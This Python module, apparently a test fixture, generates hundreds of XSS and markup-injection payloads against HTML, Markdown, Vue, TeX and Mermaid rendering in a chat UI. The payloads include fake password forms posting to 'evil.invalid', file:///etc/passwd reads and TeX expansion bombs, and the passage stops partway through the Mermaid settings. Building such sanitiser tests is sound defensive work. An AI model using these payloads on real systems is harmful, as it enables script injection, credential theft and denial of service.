"""Hostile texts: each class of the OWASP cheat sheets on XSS, and classes specific to a chat.

A class is a few readable forms, times the variations that matter for it. In a form, ``@JS@`` is a
call of the payload's canary, ``@URL@`` an address on a host that must not be requested, ``@HOST@``
that host without the scheme. Each payload has a unique number in both, which identifies it when it
runs or sends a request.
"""

# ruff: noqa: E501  (a payload stays on one line)

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache
from itertools import product

EVIL_HOST = "evil.invalid"
CANARY = "pwned"

ZWSP, ZWNJ, ZWJ, BOM, SOFT = "\u200b", "\u200c", "\u200d", "\ufeff", "\u00ad"
RLO, LRO, PDF, RLI, LRI, PDI = "\u202e", "\u202d", "\u202c", "\u2067", "\u2066", "\u2069"
LINE_SEPARATOR, PARAGRAPH_SEPARATOR, NEL = "\u2028", "\u2029", "\u0085"
IDEOGRAPHIC_STOP = "\u3002"
CYRILLIC_A, CYRILLIC_O, LONG_S, KELVIN = "\u0430", "\u043e", "\u017f", "\u212a"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text; its canary and its addresses contain ``number``."""

    number: int
    kind: str
    text: str


@lru_cache(maxsize=1)
def payloads() -> tuple[Payload, ...]:
    """Return all payloads; their numbers are stable."""
    forms: dict[str, str] = {}
    for kind, make in _CLASSES.items():
        for form in make():
            forms.setdefault(form, kind)
    return tuple(
        Payload(number, kind, _armed(form, number))
        for number, (form, kind) in enumerate(forms.items())
    )


def pieces(text: str, rng: random.Random, longest: int = 12) -> list[str]:
    """Return ``text`` in random pieces, as a model may stream it."""
    cut, at = [], 0
    while at < len(text):
        size = rng.randint(1, longest)
        cut.append(text[at : at + size])
        at += size
    return cut


def as_tags(text: str) -> str:
    """Encode ASCII as characters of the tag block, which fonts do not display."""
    return "".join(chr(0xE0000 + ord(char)) for char in text)


def as_selectors(data: bytes) -> str:
    """Encode bytes as variation selectors, which fonts do not display."""
    return "".join(chr(0xFE00 + n if n < 16 else 0xE0100 + n - 16) for n in data)


def _armed(form: str, number: int) -> str:
    return (
        form.replace("@JS@", f"{CANARY}({number})")
        .replace("@URL@", f"https://{EVIL_HOST}/{number}")
        .replace("@HOST@", f"{EVIL_HOST}/{number}")
    )


# ---- HTML ----------------------------------------------------------------------------------------


def _script_tags() -> Iterator[str]:
    names = [
        "script",
        "SCRIPT",
        "ScRiPt",
        "scr\tipt",
        "scr\x00ipt",
        f"scr{ZWSP}ipt",
        f"{LONG_S}cript",
    ]
    heads = [
        "<{}>",
        "<{} >",
        "<{}\n>",
        "<{}/>",
        "<{}/x>",
        "< {}>",
        "<{}\x0b>",
        "<<{}>",
        "<{} type=module>",
    ]
    for name, head in product(names, heads):
        yield f"{head.format(name)}@JS@</{name}>"
    yield from (
        "<script src=@URL@></script>",
        "<script src=//@HOST@></script>",
        "<script src='data:text/javascript,@JS@'></script>",
        "<script async defer src=@URL@>",
        "<script>@JS@",
        "<script>/*</script><script>*/@JS@</script>",
        "<scr<script>ipt>@JS@</scr</script>ipt>",
        "<script\n\n\n>@JS@</script\n>",
        "<script>\n\n@JS@\n\n</script>",
        "text <script>@JS@</script> text",
        '<script type=importmap>{"imports":{"vue":"@URL@"}}</script>',
        '<script type=speculationrules>{"prefetch":[{"urls":["@URL@"]}]}</script>',
        "<script nonce=guess>@JS@</script>",
        "&lt;script&gt;@JS@&lt;/script&gt;",
        "&#60;script&#62;@JS@&#60;/script&#62;",
        "&#x3c;script&#x3e;@JS@&#x3c;/script&#x3e;",
        "&amp;lt;script&amp;gt;@JS@&amp;lt;/script&amp;gt;",
        "\\<script>@JS@\\</script>",
        "\\u003cscript\\u003e@JS@\\u003c/script\\u003e",
        "%3Cscript%3E@JS@%3C/script%3E",
        "＜script＞@JS@＜/script＞",
        "<\ud7ffscript>@JS@</script>",
        "+ADw-script+AD4-@JS@+ADw-/script+AD4-",
    )


_EVENT_ELEMENTS = {
    "img": "<img src=x {}=@JS@>",
    "svg": "<svg {}=@JS@>",
    "body": "<body {}=@JS@>",
    "video": "<video src=x {}=@JS@></video>",
    "audio": "<audio src=x autoplay {}=@JS@></audio>",
    "details": "<details open {}=@JS@>x</details>",
    "input": "<input autofocus {}=@JS@>",
    "select": "<select autofocus {}=@JS@></select>",
    "textarea": "<textarea autofocus {}=@JS@></textarea>",
    "marquee": "<marquee {}=@JS@>x</marquee>",
    "a": "<a href=# tabindex=0 {}=@JS@>x</a>",
    "div": "<div style=animation-name:x {}=@JS@>x</div>",
    "iframe": "<iframe {}=@JS@></iframe>",
    "button": "<button popovertarget=x {}=@JS@>x</button>",
    "p": '<p contenteditable {}="@JS@">x</p>',
    "math": "<math><mi {}=@JS@>x</mi></math>",
    "style": "<style {}=@JS@></style>",
    "object": "<object data=x {}=@JS@></object>",
    "link": "<link rel=stylesheet href=x {}=@JS@>",
    "x-tag": "<x-tag tabindex=1 {}=@JS@>x</x-tag>",
}
_EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ONERROR", "onpointerenter"),
    *(
        "onanimationstart",
        "ontoggle",
        "onbeforetoggle",
        "onbegin",
        "onwheel",
        "oncontentvisibilityautostatechange",
    ),
)


def _event_handlers() -> Iterator[str]:
    for element, event in product(_EVENT_ELEMENTS.values(), _EVENTS):
        yield element.format(event)
    yield from (
        '<img src="x" onerror="@JS@">',
        "<img src='x' onerror='@JS@'>",
        "<img src=`x`onerror=@JS@>",
        "<img/src=x/onerror=@JS@>",
        "<img\nsrc=x\nonerror\n=\n@JS@>",
        '<img """><script>@JS@</script>">',
        "<img src=x onerror=&#112;wned(0)//@JS@>",
        "<img src=x:x onerror\x00=@JS@>",
        "<img src=x onerror\x0c=@JS@>",
        "<img src=x on\u200berror=@JS@>",
        "<IMG SRC=x ONERROR=@JS@//",
        '"><img src=x onerror=@JS@>',
        "'><img src=x onerror=@JS@>",
        "`><img src=x onerror=@JS@>",
        "--><img src=x onerror=@JS@>",
        "</textarea><img src=x onerror=@JS@>",
        "</title><img src=x onerror=@JS@>",
        "</div></div></div></article></main><img src=x onerror=@JS@>",
        '" onmouseover="@JS@" x="',
        "' autofocus onfocus='@JS@' x='",
        "<x onclick=@JS@ style=position:fixed;inset:0>x",
    )


def _raw_links() -> Iterator[str]:
    for scheme in _SCRIPT_SCHEMES:
        yield f'<a href="{scheme}">x</a>'
    for attribute in (
        "href",
        "xlink:href",
        "formaction",
        "action",
        "src",
        "data",
        "poster",
        "background",
        "srcset",
    ):
        for tag in ("a", "form", "svg", "button"):
            yield f'<{tag} {attribute}="javascript:@JS@">x</{tag}>'


def _frames_and_loads() -> Iterator[str]:
    yield from (
        "<iframe src=@URL@></iframe>",
        "<iframe src=javascript:@JS@></iframe>",
        "<iframe srcdoc='<script>parent.@JS@</script>'></iframe>",
        '<iframe srcdoc="&lt;script&gt;parent.@JS@&lt;/script&gt;"></iframe>',
        "<iframe srcdoc=&#x3c;img&#x20;src=x&#x20;onerror=parent.@JS@&#x3e;></iframe>",
        "<frameset><frame src=javascript:@JS@></frameset>",
        "<object data=@URL@></object>",
        "<object data='data:text/html,<script>parent.@JS@</script>'></object>",
        "<embed src=@URL@>",
        "<embed src=javascript:@JS@>",
        "<applet code=@URL@></applet>",
        "<portal src=@URL@></portal>",
        "<fencedframe src=@URL@></fencedframe>",
        "<base href=@URL@>",
        "<base target=_top href='javascript:@JS@//'>",
        "<meta http-equiv=refresh content='0;url=@URL@'>",
        "<meta http-equiv=refresh content='0;url=javascript:@JS@'>",
        '<meta http-equiv=Content-Security-Policy content="script-src *">@URL@',
        "<meta name=referrer content=unsafe-url>@URL@",
        "<link rel=stylesheet href=@URL@>",
        "<link rel=prefetch href=@URL@>",
        "<link rel=preload as=image href=@URL@>",
        "<link rel=dns-prefetch href=//@HOST@>",
        "<link rel=preconnect href=@URL@>",
        "<link rel=modulepreload href=@URL@>",
        "<link rel=icon href=@URL@>",
        "<link rel=import href=@URL@>",
        "<link rel=manifest href=@URL@>",
        "<img src=@URL@>",
        "<img srcset='@URL@ 1x'>",
        "<picture><source srcset=@URL@><img src=x></picture>",
        "<img src=//@HOST@>",
        "<img src=x lowsrc=@URL@>",
        "<image src=@URL@>",
        "<video src=@URL@ autoplay></video>",
        "<video poster=@URL@></video>",
        "<video><source src=@URL@ onerror=@JS@></video>",
        "<video><track default src=@URL@></video>",
        "<audio src=@URL@ autoplay></audio>",
        "<input type=image src=@URL@>",
        "<table background=@URL@><tr><td background=@URL@>x</table>",
        "<body background=@URL@>",
        "<bgsound src=@URL@>",
        "<a href=@URL@ ping=@URL@>x</a>",
        "<a href=@URL@ download target=_self>x</a>",
        "<isindex action=javascript:@JS@ type=submit>",
        "<keygen autofocus onfocus=@JS@>",
        "<html manifest=@URL@>",
        "<xml src=@URL@></xml>",
        "<noembed><img src=@URL@></noembed>",
        "<area href=javascript:@JS@>",
        "<map name=x><area href=javascript:@JS@ shape=default></map><img usemap=#x src=x>",
    )


def _forms() -> Iterator[str]:
    for method in ("get", "post", "dialog"):
        yield f"<form action=@URL@ method={method}><input name=password type=password><button>Sign in</button></form>"
    yield from (
        "<form action=javascript:@JS@><input type=submit value=Go></form>",
        "<form><button formaction=javascript:@JS@>Go</button></form>",
        "<form id=f action=@URL@></form><button form=f>Go</button>",
        "<input form=ws-composer formaction=@URL@ type=submit value=Send>",
        "<button type=submit formaction=@URL@>Your session has expired</button>",
        "<input type=password placeholder='Your password, @URL@'>",
        "<textarea name=x>@URL@",
        "<select><option>@URL@</select>",
        "<dialog open>Session expired: <a href=@URL@>sign in</a></dialog>",
        "<fieldset><legend>@URL@</legend><input></fieldset>",
        "<label for=x>@URL@</label><input id=x>",
        "<datalist><option value=@URL@></datalist>",
        "<output>@URL@</output><meter value=1></meter><progress></progress>",
        "<div contenteditable=true>@URL@</div>",
        "<div popover id=x>@URL@</div><button popovertarget=x popovertargetaction=show>x</button>",
    )


_CSS = (
    "position:fixed;inset:0;z-index:2147483647;background:#fff",
    "position:absolute;top:-9999px;left:0;width:99999px;height:99999px",
    "position:sticky;top:0;height:100vh",
    "background:url(@URL@)",
    "background-image:image-set('@URL@' 1x)",
    "list-style-image:url(@URL@)",
    "content:url(@URL@)",
    "cursor:url(@URL@),auto",
    "width:expression(@JS@)",
    "behavior:url(@URL@)",
    "-moz-binding:url(@URL@)",
    "font-family:x;src:url(@URL@)",
    "background:\\75rl(@URL@)",
    "transform:scale(500);opacity:0",
    "margin:-5000px",
    "animation:x 1s",
    "x:\\6a avascript:@JS@",
)


def _styles() -> Iterator[str]:
    for css in _CSS:
        yield f'<div style="{css}">@JS@</div>'
        yield f"<style>body{{{css}}}</style>@JS@"
        yield f"<svg><style>*{{{css}}}</style></svg>@JS@"
    yield from (
        "<style>@import url(@URL@);</style>",
        "<style>@import '@URL@';</style>",
        "<style>@font-face{font-family:x;src:url(@URL@)}*{font-family:x}</style>",
        "<style>input[value^=a]{background:url(@URL@)}</style>",
        "<style>.ws-composer{display:none}body::after{content:'Sign in at @URL@'}</style>",
        "<style></style><script>@JS@</script>",
        "<style>*{}</style/><img src=x onerror=@JS@>",
        "<style><!--</style><script>@JS@//--></script>",
        '<p class="ws-composer" id="ws-shell">@URL@</p>',
        '<div class="ws-header-sheet ws-sidebar-scrim ws-transcript-new-text" data-action="stop" data-testid="input-chat">@URL@</div>',
        "<font color=red size=999999 face='x:expression(@JS@)'>x</font>",
        "<center><big><big><blink>@URL@</blink></big></big></center>",
    )


def _svg_and_mathml() -> Iterator[str]:
    yield from (
        "<svg><script>@JS@</script></svg>",
        "<svg><script href=@URL@ /></svg>",
        "<svg><script xlink:href='data:,@JS@'/></svg>",
        "<svg><a xlink:href=javascript:@JS@><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin=@JS@ attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=@JS@>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:@JS@ /><a id=x><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>@JS@</script></svg>#x'/></svg>",
        "<svg><use xlink:href=@URL@#x /></svg>",
        "<svg><image href=@URL@ /></svg>",
        "<svg><feImage href=@URL@ /></svg>",
        "<svg><foreignObject><iframe src=javascript:@JS@></iframe></foreignObject></svg>",
        "<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload=@JS@></foreignObject></svg>",
        "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>@JS@</handler></svg>",
        "<svg><style>@import '@URL@'</style></svg>",
        "<svg><title><style><img src=x onerror=@JS@></style></title></svg>",
        "<svg><desc><img src=x onerror=@JS@></desc></svg>",
        '<svg></p><style><a id="</style><img src=1 onerror=@JS@>">',
        "<svg><discard onbegin=@JS@>",
        "<?xml version=1.0?><svg onload=@JS@>",
        "<?xml-stylesheet href=@URL@?><x/>",
        "<math href=javascript:@JS@>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:@JS@>x</maction></math>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=@JS@>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=@JS@></annotation-xml></math>",
        "<math><mi//xlink:href='data:x,<script>@JS@</script>'>",
        "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>@JS@</script></annotation-xml></semantics></math>",
        "<math><mstyle background=@URL@><mi style='position:fixed'>x</mi></mstyle></math>",
        "<math><mglyph src=@URL@ /></math>",
        "<math><mspace width=9999em height=9999em /></math> @URL@",
    )


def _mutations() -> Iterator[str]:
    inner = "<img src=x onerror=@JS@>"
    for tag in (
        "noscript",
        "template",
        "xmp",
        "plaintext",
        "listing",
        "noframes",
        "noembed",
        "title",
        "textarea",
        "style",
        "iframe",
        "comment",
        "select",
        "option",
        "table",
        "svg",
        "math",
    ):
        yield f'<{tag}><p title="</{tag}>{inner}">'
        yield f"<{tag}><{tag}/><b></{tag}>{inner}"
        yield f"<{tag}>{inner}</{tag}>"
    yield from (
        f"<form><math><mtext></form><form><mglyph><style></math>{inner}",
        f"<math><mtext><table><mglyph><style><!--</style>{inner}",
        f'<math><mtext><table><mglyph><style><math><table id="</table>{inner}">',
        f'<svg></p><style><a title="</style>{inner}">',
        f"<a href='--&gt;{inner}'>x</a><!--",
        f"<!--><b>{inner}-->",
        f"<!--!>{inner}-->",
        f"<!-- --!>{inner}-->",
        f"<!--[if gte IE 4]>{inner}<![endif]-->",
        f"<!-->{inner}",
        f"<!--->{inner}",
        f"<![CDATA[{inner}]]>",
        f'<svg><![CDATA[><image xlink:href="]]>{inner}"></svg>',
        f"<![><!--]>{inner}",
        f'<!DOCTYPE x [<!ENTITY e "{inner}">]>&e;',
        f'<!ENTITY % x SYSTEM "@URL@"> {inner}',
        f"<?php echo '{inner}'?>",
        f"<%{inner}%>",
        f"</ {inner}>",
        f"</p{inner}",
        f"<//{inner}",
        f"<a{inner}",
        f"<template shadowrootmode=open>{inner}</template>",
        f"<div><template shadowrootmode=open><slot></slot>{inner}</template></div>",
        f"<slot name=x>{inner}</slot>",
        f"<b><i><u><s>{inner}</b></i></u></s>",
        f"<table><td><form><table>{inner}",
        f"<p id=</p>{inner}",
        f"<xss id=x tabindex=1 onfocus=@JS@></xss>{inner}",
        f"<ruby><rt>{inner}",
    )


# ---- clobbering, Vue, Quasar ---------------------------------------------------------------------


def _vue() -> Iterator[str]:
    calls = (
        "constructor.constructor('@JS@')()",
        "_c.constructor('@JS@')()",
        "$el.ownerDocument.defaultView.@JS@",
        "$emit.constructor`@JS@`()",
        "_openBlock.constructor('@JS@')()",
        "toString().constructor.constructor('@JS@')()",
        "this.constructor.constructor('@JS@')()",
        "[].filter.constructor('@JS@')()",
        "$root.$options.constructor('@JS@')()",
        "window.@JS@",
    )
    brackets = (
        ("{{", "}}"),
        ("{{{", "}}}"),
        ("[[", "]]"),
        ("${", "}"),
        ("<%=", "%>"),
        ("#{", "}"),
        ("{%", "%}"),
    )
    for call, (opening, closing) in product(calls, brackets):
        yield f"{opening}{call}{closing}"
    yield from (
        "<div v-html=\"'<img src=x onerror=@JS@>'\"></div>",
        "<div v-if=\"constructor.constructor('@JS@')()\"></div>",
        '<p v-on:click="@JS@" @click=@JS@ v-show=@JS@>x</p>',
        "<component :is=\"'script'\">@JS@</component>",
        '<x v-for="x in [@JS@]"></x>',
        "<div :[@JS@]=1>x</div>",
        "<q-btn @click=@JS@ :label=@JS@>x</q-btn>",
        "<q-dialog model-value><iframe src=@URL@></iframe></q-dialog>",
        "<q-input autofocus @focus=@JS@></q-input>",
        "<nicegui-html inner-html='<img src=x onerror=@JS@>'></nicegui-html>",
        "<teleport to=body><img src=x onerror=@JS@></teleport>",
        "<div id=app data-v-app>@URL@</div>",
        "<img name=createElement><img id=socket name=did_handshake><a id=wiresideShell href=@URL@>x</a>",
        "<form name=querySelector><input name=body><input name=parentNode></form>@URL@",
        "__proto__[innerHTML]=<img src=x onerror=@JS@>",
        '{"__proto__":{"innerHTML":"<img src=x onerror=@JS@>"}}',
        '{"constructor":{"prototype":{"onerror":"@JS@"}}}',
        "innerHTML=<img src=x onerror=@JS@> class=fixed-full",
        "{props: {innerHTML: '<img src=x onerror=@JS@>'}}",
        "$refs.x.innerHTML='<img src=x onerror=@JS@>'",
        "$& $` $' $1 $<x> {title} {query} {count} <img src=x onerror=@JS@>",
    )


# ---- Markdown ------------------------------------------------------------------------------------

_SCRIPT_SCHEMES = (
    *(
        "javascript:@JS@",
        "JaVaScRiPt:@JS@",
        "JAVASCRIPT:@JS@",
        " javascript:@JS@",
        "\x01javascript:@JS@",
    ),
    *("java\tscript:@JS@", "java%0ascript:@JS@", "javascript&colon;@JS@", "&#106;avascript:@JS@"),
    *(
        "&#x6A;avascript:@JS@",
        "&#0000106avascript:@JS@",
        "javascript&#58;@JS@",
        "javascript%3A@JS@",
    ),
    *(
        "javascript://%0a@JS@",
        "javascript:/*--></title>*/@JS@",
        "javascript:'<script>@JS@</script>'",
    ),
    *("java\\script:@JS@", "javascript\\:@JS@", f"java{ZWSP}script:@JS@", f"java{SOFT}script:@JS@"),
    *(
        "view-source:javascript:@JS@",
        "jar:javascript:@JS@",
        "x-javascript:@JS@",
        "feed:javascript:@JS@",
    ),
    *("vbscript:@JS@", "VBSCRIPT:@JS@", "livescript:@JS@", "mocha:@JS@"),
    *(
        "data:text/html,<script>@JS@</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZCgwKTwvc2NyaXB0Pg==#@JS@",
    ),
    *(
        "data:image/svg+xml,<svg onload=@JS@>",
        "data:,@JS@",
        "DATA:text/html,@JS@",
        "data:application/xhtml+xml,@JS@",
    ),
    *(
        "blob:@URL@",
        "filesystem:@URL@",
        "file:///etc/passwd#@JS@",
        "file://@HOST@",
        "about:blank#@JS@",
    ),
    *(
        "ms-office:ofe|u|@URL@",
        "intent:@URL@",
        "tel:@JS@",
        "sms:1?body=@JS@",
        "ws://@HOST@",
        "ftp://@HOST@",
    ),
    *(
        "//@HOST@",
        "/\\@HOST@",
        "\\\\@HOST@",
        "/logout?@JS@",
        "?turn=@JS@",
        "#@JS@",
        "mailto:?body=@JS@",
    ),
)

_LINK_FORMS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}> 'title'",
    "<{}>",
    "![x]({})",
    "![x][r]\n\n[r]: {}",
    "[![x]({0})]({0})",
    "| a |\n| - |\n| [x]({}) |",
    "- [ ] [x]({})",
    "> [x]({})",
    "x[^1]\n\n[^1]: [x]({})",
)


def _markdown_links() -> Iterator[str]:
    for scheme in _SCRIPT_SCHEMES:
        for form in _LINK_FORMS[:7]:
            yield form.format(scheme)
    for scheme in ("javascript:@JS@", "data:text/html,<script>@JS@</script>", "//@HOST@"):
        for form in _LINK_FORMS[7:]:
            yield form.format(scheme)
    yield from (
        '[x](https://a.example/"onmouseover="@JS@)',
        "[x](https://a.example/'onmouseover='@JS@)",
        '[x](https://a.example "t\\" onmouseover=\\"@JS@")',
        "[x](https://a.example '\"><img src=x onerror=@JS@>')",
        '[x](https://a.example ("><script>@JS@</script>))',
        "[<img src=x onerror=@JS@>](https://a.example)",
        "[`<img src=x onerror=@JS@>`](javascript:@JS@)",
        "[x](javascript:window.onerror=@JS@;throw%201)",
        "[a](javascript:@JS@)[b](javascript:@JS@)",
        "[x]: javascript:@JS@\n[x]",
        "[x]: <javascript:@JS@>\n\n[X][x] [x][] [x]",
        "[\u1e9e]: javascript:@JS@\n\n[SS]",
        "[x](\njavascript:@JS@\n)",
        "[x](<java\nscript:@JS@>)",
        "[x]\n(javascript:@JS@)",
        "[x](javascript:@JS@ 'a\n\nb')",
        "![<img src=x onerror=@JS@>](x)",
        '![a" onerror="@JS@](https://a.example/x.png)',
        '![x](x"onerror="@JS@)',
        "!![x](javascript:@JS@)!",
        '<https://a.example/"onmouseover=@JS@>',
        "<https://a.example/<script>@JS@</script>>",
        'https://a.example/"onmouseover="@JS@',
        "https://a.example/<script>@JS@</script>",
        "http://a.example/'><img src=x onerror=@JS@>",
        "www.a.example/<img src=x onerror=@JS@>",
        '<x@a.example"onclick=@JS@>',
        "mailto:x@a.example?body=<script>@JS@</script>",
        '[x](mailto:"><script>@JS@</script>@a.example)',
        '[x](tel:"><script>@JS@</script>)',
        "[[x]](javascript:@JS@)",
        "[x](((((javascript:@JS@)))))",
        "[x](java\u2028script:@JS@)",
    )


def _markdown_blocks() -> Iterator[str]:
    inner = "<img src=x onerror=@JS@>"
    script = "<script>@JS@</script>"
    for text in (inner, script):
        yield from (
            f"# {text}",
            f"{text}\n===",
            f"> {text}",
            f"> > > {text}",
            f"- {text}",
            f"1. {text}",
            f"- [ ] {text}",
            f"- [x] <input type=checkbox checked onclick=@JS@> {text}",
            f"| a |\n| - |\n| {text} |",
            f"| {text} |\n|:-:|\n| x |",
            f"|a|b\n|-|-\n|`{text}`|\\|{text}",
            f"    {text}",
            f"`{text}`",
            f"`` ` {text} ``",
            f"```\n{text}\n```",
            f"```html\n{text}\n```",
            f"~~~{text}\nx\n~~~",
            f"```{text.replace('`', '')}\nx\n```",
            f"**{text}**",
            f"~~{text}~~",
            f"x[^1]\n\n[^1]: {text}",
            f"[^{text}]: x\n\nx[^{text}]",
            f"x[^1]\n\n[^1]: a\n\n    {text}",
            f"***\n{text}\n***",
            f"<div>\n\n{text}\n\n</div>",
            f"<!--\n\n{text}\n\n-->",
            f"\\{text}",
            f"a  \n{text}",
            f"---\ntitle: {text}\n---",
            f"::: warning {text}\n:::",
            f":::{{onclick=@JS@}}\n{text}\n:::",
            f"# x {{onclick=@JS@ style=position:fixed}}\n{text}",
            f"[[{text}]]",
            f"=={text}== ++{text}++ ^{text}^",
            f"*[{text}]: x\n\n{text}",
            f"Term\n: {text}",
            f"{{{{<{text}>}}}}",
        )


def _info_strings() -> Iterator[str]:
    for info in (
        'html" onmouseover="@JS@',
        '"><script>@JS@</script>',
        "'><img/src=x/onerror=@JS@>",
        "js\tonload=@JS@",
        "{onclick=@JS@}",
        "{.ws-prose-copy #app style=position:fixed}@JS@",
        "mermaid onclick=@JS@",
        'mermaid"><img/src=x/onerror=@JS@>',
        "&quot;&gt;&lt;script&gt;@JS@&lt;/script&gt;",
        "&#34;onclick=@JS@",
        "../../../@HOST@",
        "javascript:@JS@",
        "__proto__ @JS@",
        "constructor @JS@",
        "toString @JS@",
        "x" * 5_000 + "@JS@",
        f"{RLO}lmth @JS@",
        "\x00html @JS@",
        "{=html}",
        "html,run,autoplay @JS@",
    ):
        yield f"```{info}\n<script>@JS@</script>\n```"
        yield f"~~~ {info}\n</code></pre></div><img src=x onerror=@JS@>\n~~~"
        yield f"- item\n\n  ```{info}\n  <script>@JS@</script>\n  ```"
    for language in (
        "html",
        "vue",
        "svelte",
        "jsx",
        "xml",
        "php",
        "jinja",
        "diff",
        "latex",
        "console",
        "svg",
        "json",
    ):
        yield f'```{language}\n<b onclick="@JS@">{{{{@JS@}}}}</b></span></code><script>@JS@</script>\n```'


def _math() -> Iterator[str]:
    commands = (
        r"\href{javascript:@JS@}{x}",
        r"\href{@URL@}{x}",
        r"\url{javascript:@JS@}",
        r"\includegraphics{@URL@}",
        r"\includegraphics[width=9999em]{@URL@}",
        r"\htmlData{action=stop,x=@URL@}{x}",
        r"\htmlClass{ws-sidebar-scrim}{@JS@}",
        r"\htmlId{app}{@JS@}",
        r"\htmlStyle{position:fixed;inset:0;background:url(@URL@)}{x}",
        r"\style{position:fixed;inset:0}{@JS@}",
        r"\class{ws-code ws-prose-copy}{@JS@}",
        r"\cssId{ws-shell}{@JS@}",
        r"\require{html}\href{javascript:@JS@}{x}",
        r"\unicode{x3c}\unicode{x69}@JS@",
        r"\text{<img src=x onerror=@JS@>}",
        r"\text{</mtext></math><img src=x onerror=@JS@>}",
        r"\text{&lt;img src=x onerror=@JS@&gt;}",
        r"\text{&amp;lt;img src=x onerror=@JS@&amp;gt;}",
        r"\text{<![CDATA[<img src=x onerror=@JS@>]]>}",
        r"\mathrm{<script>@JS@</script>}",
        r"\operatorname{<script>@JS@</script>}",
        r"\textcolor{red;background:url(@URL@)}{x}",
        r'\textcolor{"onclick=@JS@}{x}',
        r"\color{javascript:@JS@}x",
        r"\colorbox{url(@URL@)}{x}",
        r"\def\x{<script>@JS@</script>}\x",
        r"\newcommand{\x}[1]{\href{javascript:@JS@}{#1}}\x{y}",
        r"\def\x{\x\x}\x @JS@",
        r"\input{/etc/passwd} \write18{@JS@}",
        r"\begin{array}{<script>@JS@</script>}x\end{array}",
        r"\begin{<script>@JS@</script>}x\end{<script>@JS@</script>}",
        r"\verb|<script>@JS@</script>|",
        r"\tag{<script>@JS@</script>} x",
        r"\label{<script>@JS@</script>} \ref{<script>@JS@</script>}",
        r"\char\"3C \char60 @JS@",
        r"\rule{9999em}{9999em} \text{@JS@}",
        r"\hspace{-9999em} \text{@JS@}",
        r"\kern-500em \text{@JS@}",
        r"\raisebox{500em}{@JS@}",
        r"\llap{@JS@ covers what stands before}",
        r"\mskip{-999mu} \text{@JS@}",
        r"\Huge\Huge \text{@JS@}",
        r"\genfrac{<}{>}{999em}{0}{a}{@JS@}",
        r"\substack{@JS@\\[500em] x}",
        r"\begin{matrix}a\\[-500em]@JS@\end{matrix}",
        r"\overset{<script>@JS@</script>}{x}",
        r"\bbox[9999px,border:9999px solid red]{@JS@}",
        r"\phantom{<script>@JS@</script>}\vphantom{x}",
        r"\mspace{500em}\text{@JS@}",
    )
    for command, (opening, closing) in product(
        commands, (("$", "$"), ("$$\n", "\n$$"), (r"\(", r"\)"), ("\\[\n", "\n\\]"))
    ):
        yield f"{opening}{command}{closing}"
    yield "\\begin{align}\n<script>@JS@</script> &= x\n\\end{align}"
    yield "$" + "{" * 400 + "@JS@$"


def _tex() -> Iterator[str]:
    """Attacks on TeX renderers; kept last, so that the numbers of the others do not change."""
    commands = (
        r"\def\a{@JS@@JS@@JS@}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\c\c\c\c\c\c\c\c",
        r"\newcommand{\x}[1]{#1#1#1#1}\x{\x{\x{\x{\x{\x{\x{\x{@JS@}}}}}}}}",
        r"\let\text\href \text{javascript:@JS@}{x}",
        r"\gdef\text{\href{javascript:@JS@}} \htmlStyle{background:url(@URL@)}{x}",
        r"\ce{<script>@JS@</script>} \pu{@URL@}",
        r"\!\!\!\!\!\!\!\!\!\!\!\!\!\!\!\!\!\!\!\!\text{@JS@}",
        r"\smash{\rule{30em}{30em}} \text{@JS@}",
        r"\raisebox{39em}{\raisebox{39em}{@JS@}} \rlap{@JS@} \mathllap{@JS@}",
        r"\texttip{x}{@JS@} \mathtip{x}{\href{@URL@}{y}} \toggle{x}{@JS@}\endtoggle",
        r"\tag{\href{javascript:@JS@}{1}} \text{\htmlId{app}{@JS@}}",
    )
    for command, (opening, closing) in product(commands, (("$", "$"), ("$$\n", "\n$$"))):
        yield f"{opening}{command}{closing}"


def _mermaid() -> Iterator[str]:
    flow = (
        'click A href "javascript:@JS@"',
        'click A "javascript:@JS@"',
        'click A href "@URL@" _self',
        "click A call @JS@",
        'click A callback "@JS@"',
        "style A fill:url(@URL@)",
        "style A background-image:url(@URL@),cursor:url(@URL@)",
        "classDef x fill:red,background:url(@URL@)\n class A x",
        "linkStyle default stroke:url(@URL@)",
        'C["<img src=x onerror=@JS@>"]',
        'C["<img src=@URL@>"]',
        'C["`<img src=@URL@>`"]',
        "C[\"<iframe srcdoc='<script>parent.@JS@</script>'></iframe>\"]",
        'C["<style>@import url(@URL@)</style>"]',
        "C[\"<div style='position:fixed;inset:0;background:url(@URL@)'>x</div>\"]",
        "C[\"<a href='javascript:@JS@'>x</a>\"]",
        'C["#60;img src=x onerror=@JS@#62;"]',
        'C["$$\\href{javascript:@JS@}{x}$$"]',
        'C@{ img: "@URL@", label: "x" }',
        'C@{ shape: image, img: "@URL@", w: 60, h: 60 }',
        'C@{ icon: "x:y", form: "square", label: "@URL@" }',
        'C@{ shape: "<script>@JS@</script>" }',
        'subgraph S["<img src=@URL@ onerror=@JS@>"]\n D\n end',
        'A -- "<img src=@URL@ onerror=@JS@>" --> C',
        "class A ws-sidebar-scrim",
        "C:::x;onload=@JS@",
        "%% <img src=x onerror=@JS@>",
    )
    for line in flow:
        yield f"```mermaid\nflowchart TD\n A-->B\n {line}\n```"
    settings = (
        '"securityLevel": "loose"',
        '"theme": "base", "themeVariables": {"primaryColor": "red;}*{background:url(@URL@)"}',
        '"themeCSS": "@import url(@URL@);"',
        '"themeCSS": "*{position:fixed;inset:0;background:url(@URL@)}"',
        '"themeCSS": ":root{} } body{display:none} {"',
        '"fontFamily": "x;}</style><img src=x onerror=@JS@>"',
